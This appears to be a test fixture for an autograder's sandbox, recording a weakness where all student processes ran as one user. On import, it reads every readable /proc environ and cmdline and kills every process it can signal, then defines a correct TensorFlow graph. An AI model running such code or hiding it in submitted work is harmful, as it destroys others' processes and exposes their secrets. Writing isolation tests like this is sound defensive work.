"""Weakness (issue 27): every student process ran as the same `nobody`, so one could signal or read the others.

A correct solution that, when imported, kills every process it can see, and reads every
/proc/*/environ and cmdline it can. Expected: passed (its own code is right), and every file
checked beside it keeps its verdict.
"""
import os
import signal

import tensorflow as tf

tf1 = tf.compat.v1
SEEN = []
for name in os.listdir("/proc"):
    if name.isdigit() and int(name) != os.getpid():
        for part in ("environ", "cmdline"):
            try:
                with open(f"/proc/{name}/{part}", "rb") as stream:
                    SEEN.append(stream.read())
            except OSError:
                pass
        try:
            os.kill(int(name), signal.SIGKILL)
        except OSError:
            pass
try:
    os.kill(-1, signal.SIGKILL)  # everything this user may signal, except this process
except OSError:
    pass


def build():
    graph = tf.Graph()
    with graph.as_default():
        x, y, z = (tf1.placeholder(tf.float32, name=name) for name in "xyz")
        out = x * y + z
    return graph, x, y, z, out
